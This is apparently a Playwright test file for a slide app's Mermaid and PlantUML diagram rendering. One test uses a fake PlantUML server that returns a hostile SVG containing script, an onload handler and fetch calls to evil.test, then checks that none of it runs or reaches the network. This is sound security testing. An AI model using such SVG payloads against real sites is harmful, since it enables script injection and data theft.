import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { words } from '#words';
import { drawings, expectDrawn, fence, settled } from './support/diagrams.ts';
import { type Harness, look, openSlides, startHarness } from './support/frame-harness.ts';

const graph = fence('mermaid', 'graph LR\nA[Word] --> B');
const themed = (theme: string, rest: string) => `---\nslideOptions:\n  theme: ${theme}\n---\n\n${rest}\n`;
const stage = '.l-reveal section.present .l-diagram';

test.describe('a diagram', () => {
  let harness: Harness;
  test.beforeAll(async () => {
    harness = await startHarness();
  });
  test.afterAll(() => harness.close());

  /** How light the text in a node is, 0 to 255. */
  const textLightness = async (slides: Awaited<ReturnType<typeof openSlides>>, where = '.l-reveal section.present') =>
    slides.frame.evaluate((root) => {
      const text = document.querySelector(`${root} .l-diagram .node text, ${root} .l-diagram .node tspan`);
      const [red = 0, green = 0, blue = 0] =
        (text &&
          getComputedStyle(text)
            .fill.match(/[\d.]+/g)
            ?.map(Number)) ||
        [];
      return (red + green + blue) / 3;
    }, where);

  test('is light on dark themes and dark on light ones, also when the theme changes', async ({ page }) => {
    const slides = await openSlides(page, harness, { text: themed('black', graph) });
    await settled(slides);
    expect(await textLightness(slides)).toBeGreaterThan(150);
    await slides.edit((text) => text.replace('black', 'white'));
    await settled(slides);
    await expect.poll(() => textLightness(slides)).toBeLessThan(100);
  });

  test('follows the background of its slide and the reader', async ({ page }) => {
    const slides = await openSlides(page, harness, { text: themed('white', `<!-- .slide: data-background="#024550" -->\n\n${graph}`) });
    await settled(slides);
    expect(await textLightness(slides)).toBeGreaterThan(150);
    await slides.send({ type: 'view', view: 'reading' });
    await settled(slides);
    await expect.poll(() => textLightness(slides, '.l-reflow')).toBeLessThan(100);
    await slides.send({ type: 'look', look: { ...look, scheme: 'dark' } });
    await expect.poll(() => textLightness(slides, '.l-reflow')).toBeGreaterThan(150);
  });

  test('fits the slide, fills what it may, and is a step when it is made one', async ({ page }) => {
    const tall = fence('mermaid', `graph TD\n${Array.from({ length: 20 }, (_, index) => `a${index} --> a${index + 1}`).join('\n')}`);
    const stretched = `# Head\n\n${graph}\n<!-- .element: class="r-stretch fragment" -->\n\nfoot`;
    const slides = await openSlides(page, harness, { text: `${tall}\n\n---\n\n${stretched}\n` });
    await settled(slides);
    const inside = () =>
      slides.frame.evaluate((where) => {
        const { top = -1, bottom = 9_999 } = document.querySelector(`${where} svg`)?.getBoundingClientRect() ?? {};
        return top >= 0 && bottom <= innerHeight;
      }, stage);
    await expect.poll(inside).toBe(true);
    await slides.send({ type: 'show', place: { slide: 2, step: -1 } });
    await expect(slides.frame.locator(stage)).toHaveCSS('visibility', 'hidden');
    await slides.send({ type: 'go', to: 'next' });
    await expect(slides.frame.locator(stage)).toHaveCSS('visibility', 'visible');
    const scale = await slides.frame.evaluate(() =>
      Number(getComputedStyle(document.querySelector('.l-reveal .reveal') as Element).getPropertyValue('--slide-scale')),
    );
    await expect.poll(async () => ((await drawings(slides, stage))[0]?.height ?? 0) / scale).toBeGreaterThan(350);
    expect(await inside()).toBe(true);
  });

  test('costs a deck without one nothing', async ({ page }) => {
    harness.requests.splice(0);
    const slides = await openSlides(page, harness, { text: '# One\n\n```js\nlet a;\n```\n' });
    await slides.frame.waitForSelector('.hljs');
    expect(harness.requests.filter((url) => /open-|draw-|worker|mermaid/.test(url))).toEqual([]);
    await slides.edit((text) => `${text}\n${graph}\n`);
    await expectDrawn(slides, ['Word']);
    expect(harness.requests.some((url) => url.includes('draw-mermaid'))).toBe(true);
    expect(harness.requests.filter((url) => /worker|abc-|plantuml/.test(url))).toEqual([]);
  });
});

test.describe('PlantUML', () => {
  const source = '@startuml\nAnna -> Ben: hello\n@enduml';
  const asked: string[] = [];
  let server: Server;
  let url: string;
  test.beforeAll(async () => {
    // Stands in for the server of PlantUML. Its drawing tries what a hostile one would.
    server = createServer((request, response) => {
      asked.push(request.url ?? '');
      const script =
        '<script>parent.pwned = 1; fetch("https://evil.test/1")</script><image href="https://evil.test/2" width="9" height="9"/>';
      const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80" onload="parent.pwned = 1">${script}<text y="20">drawn</text></svg>`;
      response.writeHead(asked.length > 1 ? 500 : 200, { 'Content-Type': 'image/svg+xml' }).end(svg);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/plantuml`;
  });
  test.afterAll(() => server.close());

  test('is text with a remark where no server draws it', async ({ page }) => {
    const harness = await startHarness();
    const slides = await openSlides(page, harness, { text: `# One\n\n${fence('plantuml', source)}\n` });
    await settled(slides);
    expect((await drawings(slides))[0]?.remark).toBe(words.en.frame.diagram.plantumlOff);
    await expect(slides.frame.locator('.l-source')).toHaveText(source);
    expect(harness.requests.filter((path) => path.includes('/diagrams/'))).toEqual([]);
    await harness.close();
  });

  test('is an image that our own server fetched, and can do nothing', async ({ page }) => {
    const harness = await startHarness(url);
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    const slides = await openSlides(page, harness, { text: `# One\n\n${fence('plantuml', source)}\n` });
    await settled(slides);
    expect(await drawings(slides)).toMatchObject([{ remark: null }]);
    await expect.poll(async () => (await drawings(slides))[0]?.width ?? 0).toBeGreaterThan(50);
    expect(asked).toHaveLength(1);
    expect(requests.filter((one) => !one.startsWith(harness.url) && !/^(?:data|blob):/.test(one))).toEqual([]);
    await slides.edit((text) => text.replace('hello', 'fail'));
    await settled(slides);
    // What was drawn stays under the remark.
    expect(await drawings(slides)).toMatchObject([{ remark: words.en.frame.diagram.plantumlFailed }]);
    expect((await drawings(slides))[0]?.width).toBeGreaterThan(50);
    expect(await slides.frame.evaluate(() => 'pwned' in globalThis)).toBe(false);
    expect((await slides.got()).filter(({ type }) => type === 'image-failed')).toEqual([]);
    await harness.close();
  });
});
